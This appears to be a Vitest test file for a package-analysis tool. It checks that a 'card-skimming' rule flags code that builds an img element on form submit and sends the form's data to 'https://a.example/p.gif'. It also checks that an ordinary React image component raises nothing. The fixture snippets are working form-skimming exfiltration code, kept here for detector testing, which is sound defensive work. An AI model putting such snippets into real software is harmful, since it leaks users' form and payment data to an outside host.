import { describe, expect, it } from 'vitest';
import { analyzePackage } from '../../../../src/analyze/index.js';
import { ownRules, packageOf } from '../../in-memory.js';

const found = (code: string): string[] =>
  analyzePackage(packageOf({ 'index.js': code }, { main: 'index.js' }), ownRules()).findings.map(({ rule }) => rule);

describe('an element of a document that somebody handed over', () => {
  it.each([
    "form.ownerDocument.createElement('img')",
    "form.ownerDocument.createElementNS('http://www.w3.org/1999/xhtml', 'img')",
    "form.getRootNode().createElement('img')",
  ])('fetches what it names: %s', (made) => {
    const code = `exports.bind = (form) => form.addEventListener('submit', () => { const el = ${made}; el.src = 'https://a.example/p.gif?' + new URLSearchParams(new FormData(form)); });`;
    expect(found(code)).toContain('card-skimming');
  });

  it('is no component of a library', () => {
    const code = `const { createElement } = require('react'); exports.A = (p) => createElement('img', { src: 'https://a.example/' + p.name + '.svg' });`;
    expect(found(code)).toEqual([]);
  });
});
